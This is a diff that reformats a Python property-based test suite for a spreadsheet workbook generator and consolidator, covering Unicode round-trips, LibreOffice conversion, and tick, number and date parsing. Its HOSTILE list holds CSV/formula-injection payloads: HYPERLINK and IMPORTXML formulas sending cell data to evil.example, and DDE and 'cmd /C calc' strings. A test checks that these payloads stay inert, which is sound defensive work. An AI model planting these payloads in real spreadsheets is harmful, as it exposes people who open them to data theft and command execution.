@@ -46,13 +46,17 @@ EXCEL_CELL_LIMIT = 32767  # characters in one cell, counted as Excel counts them
 XML_FORBIDDEN = "".join(map(chr, [*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20)])) + "\ufffe\uffff"
 TRIGGERS = ("=", "+", "-", "@")
 
-IN_PROCESS = settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow,
-                                                                             HealthCheck.data_too_large])
+IN_PROCESS = settings(
+    max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large]
+)
 FAST = settings(max_examples=300, deadline=None)
 # Each example of these runs LibreOffice or a whole import: a failure is reported as found, without minutes of
 # shrinking.
-SLOW = dict(deadline=None, phases=(Phase.explicit, Phase.reuse, Phase.generate),
-            suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
+SLOW = dict(
+    deadline=None,
+    phases=(Phase.explicit, Phase.reuse, Phase.generate),
+    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
+)
 
 
 # --- the workbook under test ---------------------------------------------------------------------------------------
@@ -79,11 +83,58 @@ def key_of(cell) -> tuple[str, str, str, str]:
 # Pieces that plain st.characters() rarely produces: other scripts, emoji (with skin tone, ZWJ sequence, flag),
 # right-to-left text and marks, combining marks, invisible spaces, XML-special characters, OOXML's own _xHHHH_
 # escape syntax typed literally, and line breaks.
-PIECES = ("日本語のテキスト", "中文", "한국어", "Ελληνικά", "русский", "العربية", "עברית", "हिन्दी", "ไทย", "ქართული",
-          "😀", "👍🏽", "👩\u200d👩\u200d👧", "🇬🇧", "🧪", "\U000e0001", "e\u0301", "\u0300", "a\u0308\u0323",
-          "\u200f", "\u202e", "\u061c", "\u200b", "\u200d", "\u00a0", "\u2003", "\ufeff", "\u00ad", "\u2028", "\x85",
-          "\x7f", "\ufdd0", "\U0001fffe", "\ue000", "&", "<", ">", "]]>", '"', "'", "&amp;", "_x0041_", "_x000D_",
-          "_x005F_", "\n", "\r\n", "\r", "\t", "  ", " ")
+PIECES = (
+    "日本語のテキスト",
+    "中文",
+    "한국어",
+    "Ελληνικά",
+    "русский",
+    "العربية",
+    "עברית",
+    "हिन्दी",
+    "ไทย",
+    "ქართული",
+    "😀",
+    "👍🏽",
+    "👩\u200d👩\u200d👧",
+    "🇬🇧",
+    "🧪",
+    "\U000e0001",
+    "e\u0301",
+    "\u0300",
+    "a\u0308\u0323",
+    "\u200f",
+    "\u202e",
+    "\u061c",
+    "\u200b",
+    "\u200d",
+    "\u00a0",
+    "\u2003",
+    "\ufeff",
+    "\u00ad",
+    "\u2028",
+    "\x85",
+    "\x7f",
+    "\ufdd0",
+    "\U0001fffe",
+    "\ue000",
+    "&",
+    "<",
+    ">",
+    "]]>",
+    '"',
+    "'",
+    "&amp;",
+    "_x0041_",
+    "_x000D_",
+    "_x005F_",
+    "\n",
+    "\r\n",
+    "\r",
+    "\t",
+    "  ",
+    " ",
+)
 CHARS = st.characters(codec="utf-8", exclude_categories=("Cs",), exclude_characters=XML_FORBIDDEN)
 
 
@@ -97,7 +148,7 @@ def utf16_len(text: str) -> int:
 
 def fit_excel(text: str, limit: int = EXCEL_CELL_LIMIT) -> str:
     """Cut text to `limit` UTF-16 code units without splitting a surrogate pair."""
-    return text.encode("utf-16-le")[:2 * limit].decode("utf-16-le", errors="ignore")
+    return text.encode("utf-16-le")[: 2 * limit].decode("utf-16-le", errors="ignore")
 
 
 @st.composite
@@ -110,16 +161,46 @@ def long_text(draw) -> str:
     return text
 
 
-HOSTILE = ('=HYPERLINK("http://evil.example/?d="&A1,"Click me")', "=1+1", "+cmd|' /C calc'!A0",
-           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=WEBSERVICE("http://evil.example")',
-           "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"A1\")",
-           "https://evil.example/path", "mailto:someone@evil.example", "www.evil.example")
-formula_text = st.one_of(st.sampled_from(HOSTILE),
-                         st.builds(lambda t, rest: t + rest, st.sampled_from(TRIGGERS), free_text(0, 30)))
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?d="&A1,"Click me")',
+    "=1+1",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=WEBSERVICE("http://evil.example")',
+    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
+    '=DDE("cmd";"/C calc";"A1")',
+    "https://evil.example/path",
+    "mailto:someone@evil.example",
+    "www.evil.example",
+)
+formula_text = st.one_of(
+    st.sampled_from(HOSTILE), st.builds(lambda t, rest: t + rest, st.sampled_from(TRIGGERS), free_text(0, 30))
+)
 # Text a spreadsheet might be tempted to take for something else.
-lookalike_text = st.sampled_from(("00123", "1e5", "TRUE", "FALSE", "2026-01-01", "01/02/2026", "1/2", "50%", "#N/A",
-                                  "#DIV/0!", "Err:502", "-0", "+44 20 7946 0000", "'quoted'", "  spaced  ", "\n",
-                                  "two\nlines", "tail\n", "\n\nlead"))
+lookalike_text = st.sampled_from(
+    (
+        "00123",
+        "1e5",
+        "TRUE",
+        "FALSE",
+        "2026-01-01",
+        "01/02/2026",
+        "1/2",
+        "50%",
+        "#N/A",
+        "#DIV/0!",
+        "Err:502",
+        "-0",
+        "+44 20 7946 0000",
+        "'quoted'",
+        "  spaced  ",
+        "\n",
+        "two\nlines",
+        "tail\n",
+        "\n\nlead",
+    )
+)
 short_text = st.one_of(free_text(), formula_text, lookalike_text)
 
 PADDING = st.text(st.sampled_from(" \t\n\r\u00a0\u200b\u2003"), max_size=3)
@@ -136,9 +217,11 @@ tick_yes = st.sampled_from(TICK_WORDS).flatmap(spelled)
 tick_no = st.sampled_from(UNTICK_WORDS).flatmap(spelled)
 tick_garbage = st.one_of(
     st.sampled_from(("maybe", "✗", "done?", "2", "yes!", "x x", "nope", "1.0", "☐", "✓✓", "tick", "-", "?")),
-    free_text(1, 12)).filter(
+    free_text(1, 12),
+).filter(
     # still not a tick after LibreOffice's line-break rewriting and after .ods loses its tabs (see below)
-    lambda s: all(tick(v) is None for v in (s, after_libreoffice(s), after_libreoffice(s).replace("\t", ""))))
+    lambda s: all(tick(v) is None for v in (s, after_libreoffice(s), after_libreoffice(s).replace("\t", "")))
+)
 
 
 @st.composite
@@ -164,9 +247,14 @@ def date_entry(draw) -> tuple[object, dt.date]:
 # Excel keeps 15 significant digits (and LibreOffice writes 15); XlsxWriter writes 16. Numbers with at most 15
 # significant digits therefore survive exactly everywhere.
 numbers = st.one_of(
-    st.builds(lambda m, e, neg: float(f"{'-' if neg else ''}{m}e{e}"), st.integers(0, 10**15 - 1),
-              st.integers(-20, 12), st.booleans()),
-    st.integers(-10**12, 10**12).map(float))
+    st.builds(
+        lambda m, e, neg: float(f"{'-' if neg else ''}{m}e{e}"),
+        st.integers(0, 10**15 - 1),
+        st.integers(-20, 12),
+        st.booleans(),
+    ),
+    st.integers(-(10**12), 10**12).map(float),
+)
 
 
 def after_libreoffice(text: str) -> str:
@@ -197,8 +285,9 @@ def fills(draw, scale: int = 1) -> dict[tuple, Fill]:
 
     def place(kind: str, entries: list[Fill]) -> None:
         cells = by_kind[kind]
-        picked = draw(st.lists(st.integers(0, len(cells) - 1), unique=True, min_size=len(entries),
-                               max_size=len(entries)))
+        picked = draw(
+            st.lists(st.integers(0, len(cells) - 1), unique=True, min_size=len(entries), max_size=len(entries))
+        )
         for i, entry in zip(picked, entries, strict=True):
             plan[key_of(cells[i])] = entry
 
@@ -324,7 +413,7 @@ def test_random_fills_survive_libreoffice(soffice_present, plan):
 def _text_workbook(tmp: Path, texts: list[str]) -> tuple[Path, list[tuple]]:
     """One workbook with `texts` in the first text inputs; returns it and the answer keys in order."""
     _, matrix, _, by_kind = _setup()
-    keys = [key_of(c) for c in by_kind["text"] if not c.field.startswith("indicator_")][:len(texts)]
+    keys = [key_of(c) for c in by_kind["text"] if not c.field.startswith("indicator_")][: len(texts)]
     return make_workbook(tmp, matrix, dict(zip(keys, texts, strict=True)), partner=None), keys
 
 
@@ -339,8 +428,20 @@ def _texts(path: Path, keys: list[tuple]) -> list:
 def test_libreoffice_line_breaks_and_controls(tmp_path, soffice_present):
     """The documented differences, on fixed values: CR/LF handling (LibreOffice), and C0 controls — kept in .xlsx
     through its _xHHHH_ escapes, dropped in .ods, which cannot hold them."""
-    texts = ["a\r\nb", "a\r\r\nb", "a\n\rb", "a\r \nb", "a\r\n\r\nb", "a\rb", "\ra", "a\r", "x\x01y", "x\x1fy",
-             "x\x0by", "x\x00y"]
+    texts = [
+        "a\r\nb",
+        "a\r\r\nb",
+        "a\n\rb",
+        "a\r \nb",
+        "a\r\n\r\nb",
+        "a\rb",
+        "\ra",
+        "a\r",
+        "x\x01y",
+        "x\x1fy",
+        "x\x0by",
+        "x\x00y",
+    ]
     path, keys = _text_workbook(tmp_path / "gen", texts)
     assert _texts(path, keys) == texts  # XlsxWriter escapes the controls and CR as _xHHHH_: all intact
     assert [after_libreoffice(t) for t in texts[:6]] == ["a\nb", "a\n\nb", "a\nb", "a\n \nb", "a\n\nb", "a\rb"]
@@ -359,9 +460,12 @@ def test_tab_survives_ods(tmp_path, soffice_present):
     assert _texts(convert(path, "ods", tmp_path / "ods"), keys) == texts
 
 
-@pytest.mark.xfail(strict=True, reason="XlsxWriter escapes only the first of two overlapping _xHHHH_ patterns "
-                                       "('_x0041_x0042_' is written as '_x005F_x0041_x0042_'), so a pre-filled "
-                                       "text holding them reads back as '_x0041B'")
+@pytest.mark.xfail(
+    strict=True,
+    reason="XlsxWriter escapes only the first of two overlapping _xHHHH_ patterns "
+    "('_x0041_x0042_' is written as '_x005F_x0041_x0042_'), so a pre-filled "
+    "text holding them reads back as '_x0041B'",
+)
 def test_overlapping_escape_syntax_survives_the_writer(tmp_path):
     texts = ["_x0041_x0042_"]
     path, keys = _text_workbook(tmp_path, texts)
@@ -377,23 +481,34 @@ def test_rich_text_lookalikes_survive_the_writer(tmp_path):
 
 # --- partner text stays inert in the consolidated outputs ----------------------------------------------------------
 
-TEXT_FIELDS = (("notes", "1.1", "", ""), ("barrier", "1.1", "1", ""), ("priority_action", "1.1", "1", ""),
-               ("owner", "1.1", "1", ""), ("action_notes", "1.1", "1", ""), ("supporting_other", "2", "Other 1", ""),
-               ("barrier", "2", "3", ""), ("notes", "2", "", ""), ("respondent_role", "", "", ""))
+TEXT_FIELDS = (
+    ("notes", "1.1", "", ""),
+    ("barrier", "1.1", "1", ""),
+    ("priority_action", "1.1", "1", ""),
+    ("owner", "1.1", "1", ""),
+    ("action_notes", "1.1", "1", ""),
+    ("supporting_other", "2", "Other 1", ""),
+    ("barrier", "2", "3", ""),
+    ("notes", "2", "", ""),
+    ("respondent_role", "", "", ""),
+)
 SHOWN_IN_SUMMARY = {"notes", "barrier", "priority_action", "owner", "action_notes", "supporting_other"}
 _PLAIN_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")
 # A CR not followed by LF is left out here: the CSV writer does not quote it, which splits the row (a bug, shown by
 # test_csv_keeps_a_lone_cr_inside_its_field).
 hostile_text = st.one_of(st.sampled_from(HOSTILE), formula_text).filter(
-    lambda s: s.strip() != "" and not re.search(r"\r(?!\n)", s))
+    lambda s: s.strip() != "" and not re.search(r"\r(?!\n)", s)
+)
 
 
 @pytest.mark.slow
 @pytest.mark.filterwarnings("ignore:Sparkline Group extension")
 @settings(max_examples=6, **SLOW)
-@given(texts=st.lists(hostile_text, min_size=len(TEXT_FIELDS) + 2, max_size=len(TEXT_FIELDS) + 2),
-       names=st.lists(hostile_text.map(lambda s: s[:40]), min_size=3, max_size=3))
-@example(texts=list(HOSTILE[:len(TEXT_FIELDS) + 2]), names=list(HOSTILE[-3:]))
+@given(
+    texts=st.lists(hostile_text, min_size=len(TEXT_FIELDS) + 2, max_size=len(TEXT_FIELDS) + 2),
+    names=st.lists(hostile_text.map(lambda s: s[:40]), min_size=3, max_size=3),
+)
+@example(texts=list(HOSTILE[: len(TEXT_FIELDS) + 2]), names=list(HOSTILE[-3:]))
 def test_summary_never_holds_a_live_formula_or_link(texts, names):
     catalog, matrix, iset, _ = _setup()
     partners = [Partner(f"P{i}", names[i], texts[i][:40], f"p{i}@example.org") for i in range(3)]
@@ -442,10 +557,18 @@ def test_summary_never_holds_a_live_formula_or_link(texts, names):
 def test_tracker_orders_any_periods(tmp_path):
     catalog, matrix, iset, _ = _setup()
     partners = [Partner("P1", "Ann", "Org A", "a@example.org"), Partner("P2", "Bob", "Org B", "b@example.org")]
-    prefill = {p.id: ("", {("criterion", "1.1", "1.1a", BASELINE): "✓",
-                           ("indicator_period", "", "cp1-1-po1", ""): period,
-                           ("indicator_value", "", "cp1-1-po1", ""): 5.0}, {})
-               for p, period in zip(partners, ("2026 Q1", "Q2 2026"), strict=True)}
+    prefill = {
+        p.id: (
+            "",
+            {
+                ("criterion", "1.1", "1.1a", BASELINE): "✓",
+                ("indicator_period", "", "cp1-1-po1", ""): period,
+                ("indicator_value", "", "cp1-1-po1", ""): 5.0,
+            },
+            {},
+        )
+        for p, period in zip(partners, ("2026 Q1", "Q2 2026"), strict=True)
+    }
     generate_workbooks(matrix, tmp_path / "returns", partners, indicators=iset, prefill=prefill)
     (tmp_path / "returns" / "manifest.csv").unlink()
     consolidate([tmp_path / "returns"], tmp_path / "out", catalog=catalog, indicators=INDICATORS_ID, jobs=1)
@@ -471,8 +594,13 @@ def _strings(path: Path) -> set[str]:
     """Every text value, read with calamine (openpyxl does not undo the _x000D_ escape of a CR)."""
     wb = CalamineWorkbook.from_path(str(path))
     try:
-        return {v for name in wb.sheet_names for row in wb.get_sheet_by_name(name).to_python() for v in row
-                if isinstance(v, str)}
+        return {
+            v
+            for name in wb.sheet_names
+            for row in wb.get_sheet_by_name(name).to_python()
+            for v in row
+            if isinstance(v, str)
+        }
     finally:
         wb.close()
 
@@ -522,7 +650,7 @@ def test_tick_agrees_with_the_word_lists(text):
 
 
 @FAST
-@given(st.one_of(st.integers(-10**6, 10**6), st.floats(allow_nan=False), st.booleans()))
+@given(st.one_of(st.integers(-(10**6), 10**6), st.floats(allow_nan=False), st.booleans()))
 def test_tick_of_numbers_and_booleans(value):
     """A spreadsheet stores a typed 1 or TRUE as a number or boolean: 1/TRUE tick, 0/FALSE untick, others are not."""
     want = True if value in (1, True) else False if value in (0, False) else None
@@ -563,8 +691,10 @@ def test_number_with_thousands_separators_and_percent(whole, cents):
 
 
 @FAST
-@given(st.sampled_from(("nan", "NaN", "inf", "-inf", "Infinity", "+infinity", "1e999", "-1e400", "nan%")),
-       st.sampled_from(("", " ", "\u00a0")))
+@given(
+    st.sampled_from(("nan", "NaN", "inf", "-inf", "Infinity", "+infinity", "1e999", "-1e400", "nan%")),
+    st.sampled_from(("", " ", "\u00a0")),
+)
 def test_number_is_never_nan_or_infinite(text, pad):
     """'NaN' or 'Infinity' typed into a number cell is not a number (it would reach summary.json as a bare NaN)."""
     assert number(pad + text + pad) is None
@@ -600,9 +730,16 @@ def test_date_with_a_two_digit_year(d):
 
 
 @FAST
-@given(st.one_of(st.booleans(), st.just(""), st.just("   "), st.sampled_from(("not a date", "32/01/2026", "2026-13-01",
-                                                                              "29/02/2025")),
-                 st.integers(-10**6, 0), st.integers(2958466, 10**9)))
+@given(
+    st.one_of(
+        st.booleans(),
+        st.just(""),
+        st.just("   "),
+        st.sampled_from(("not a date", "32/01/2026", "2026-13-01", "29/02/2025")),
+        st.integers(-(10**6), 0),
+        st.integers(2958466, 10**9),
+    )
+)
 def test_not_a_date(value):
     assert date(value) is None
 
